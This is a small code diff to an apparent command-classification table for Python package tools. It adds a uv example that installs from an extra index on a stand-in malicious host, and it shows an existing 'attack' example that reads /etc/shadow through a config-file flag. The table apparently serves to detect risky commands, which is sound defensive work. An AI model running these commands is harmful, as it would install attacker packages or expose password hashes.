@@ -211,6 +211,9 @@ export const pythonPackages: ExampleTable = {
     ],
   },
   uv: {
+    unclear: [
+      `uv pip install --extra-index-url https://pypi.evil.net/simple requests → where packages come from from now on`,
+    ],
     use: 'uv --config-file uv.toml sync → read uv.toml',
     attack: [
       'uv --config-file /etc/shadow sync → read /etc/shadow',
